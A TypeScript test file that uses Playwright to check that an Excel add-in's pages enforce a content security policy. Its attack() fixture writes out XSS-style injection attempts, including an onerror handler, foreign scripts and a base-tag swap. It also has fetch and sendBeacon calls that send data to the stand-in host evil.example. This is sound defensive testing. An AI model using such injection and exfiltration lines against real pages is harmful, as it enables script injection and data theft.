import { existsSync } from "node:fs";
import { mkdtemp } from "node:fs/promises";
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { type Browser, chromium, type Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { buildPlayground } from "../../playground/build";
import { baseUrl, builtExcel } from "../excel/built-excel";
import { browserFlags, browserPath } from "./find-browser";

/** All that Microsoft's network serves for office.js. */
const officeJs = dirname(createRequire(import.meta.url).resolve("@microsoft/office-js/dist/office.js"));
const microsoft = "https://appsforoffice.microsoft.com/lib/1/hosted";

let browser: Browser;
let excel: string;
let playground: string;

beforeAll(async () => {
  playground = await mkdtemp(join(tmpdir(), "playground-"));
  [browser, excel] = await Promise.all([
    chromium.launch({ executablePath: browserPath(), args: browserFlags }),
    builtExcel(),
    buildPlayground({ outDir: playground }),
  ]);
});

afterAll(() => browser?.close());

interface Watched {
  readonly page: Page;
  /** What the page's policy forbade. */
  readonly forbidden: string[];
  /** What was asked for over the network. */
  readonly asked: string[];
}

/** A page with folders of files behind addresses, and nothing else on its network. */
async function watchedPage(folders: Readonly<Record<string, string>>): Promise<Watched> {
  const page = await browser.newPage();
  const forbidden: string[] = [];
  const asked: string[] = [];
  page.on("console", (message) => {
    if (/content security policy/i.test(message.text())) forbidden.push(message.text());
  });
  await page.route("**/*", (route) => {
    const address = route
      .request()
      .url()
      .replace(/[?#].*/, "");
    asked.push(address);
    for (const [beginning, folder] of Object.entries(folders)) {
      const path = address.startsWith(beginning) && join(folder, address.slice(beginning.length));
      if (path && existsSync(path)) return route.fulfill({ path });
    }
    return route.abort();
  });
  return { page, forbidden, asked };
}

const openExcel = () => watchedPage({ [baseUrl]: excel, [microsoft]: officeJs });

describe("the task pane's policy", () => {
  test.each([
    ["on the web", "Excel$Web$16.00$en-US$", "excel-web-16.00.js"],
    ["on Windows", "Excel$Win32$16.01$en-US", "excel-win32-16.01.js"],
    ["on a Mac", "Excel$Mac$16.00$zh-CN", "excel-mac-16.00.js"],
  ])("lets the real office.js load what it needs %s", async (_, host, library) => {
    const { page, forbidden, asked } = await openExcel();
    await page.goto(`${baseUrl}/taskpane.html?_host_Info=${encodeURIComponent(host)}`);
    await expect.poll(() => asked).toContain(`${microsoft}/${library}`);
    await expect.poll(() => asked.some((address) => address.endsWith("/office_strings.js"))).toBe(true);
    await page.waitForFunction(() => "Excel" in window);
    expect(forbidden).toEqual([]);
    await page.close();
  });
});

/** What somebody would try whose text had become part of the page. */
function attack(): Promise<string[]> {
  const tries: Record<string, () => unknown> = {
    "an inline script": () => {
      const script = document.createElement("script");
      script.textContent = "window.hit = true";
      document.body.append(script);
    },
    "a handler": () => {
      document.body.insertAdjacentHTML("beforeend", '<img src="data:," onerror="window.hit = true">');
    },
    "a foreign script": () => {
      const script = document.createElement("script");
      script.src = "https://evil.example/script.js";
      document.body.append(script);
    },
    "a foreign picture": () => {
      new Image().src = "https://evil.example/picture.png";
    },
    "a foreign frame": () => {
      const frame = document.createElement("iframe");
      frame.src = "https://evil.example/frame.html";
      document.body.append(frame);
    },
    "a foreign style": () => {
      document.head.insertAdjacentHTML("beforeend", '<link rel="stylesheet" href="https://evil.example/style.css">');
    },
    "a foreign request": () => fetch("https://evil.example/data", { method: "POST", body: "pay" }).catch(() => {}),
    "a beacon": () => navigator.sendBeacon("https://evil.example/beacon", "pay"),
    "another base": () => {
      document.head.insertAdjacentHTML("beforeend", '<base href="https://evil.example/">');
    },
    "code from a text": () => setTimeout("window.hit = true"),
  };
  return new Promise((resolve) => {
    const forbidden = new Set<string>();
    addEventListener("securitypolicyviolation", ({ effectiveDirective }) => forbidden.add(effectiveDirective));
    for (const run of Object.values(tries)) run();
    setTimeout(() => resolve([...forbidden].sort()), 1500);
  });
}

const everyDirective = [
  "base-uri",
  "connect-src",
  "frame-src",
  "img-src",
  "script-src",
  "script-src-attr",
  "script-src-elem",
  "style-src-elem",
];

describe("what has found its way into the page can neither run nor send anything", () => {
  test.each([
    ["the task pane", () => openExcel(), `${baseUrl}/taskpane.html`],
    ["Excel's help", () => openExcel(), `${baseUrl}/help.html`],
    [
      "the playground",
      () => watchedPage({ "https://site.example/kpi": playground }),
      "https://site.example/kpi/index.html",
    ],
  ])("of %s", async (_, open, address) => {
    const { page, asked } = await open();
    await page.goto(address);
    expect(await page.evaluate(attack)).toEqual(everyDirective);
    expect(await page.evaluate(() => "hit" in window)).toBe(false);
    expect(asked.filter((url) => url.includes("evil.example"))).toEqual([]);
    await page.close();
  });
});
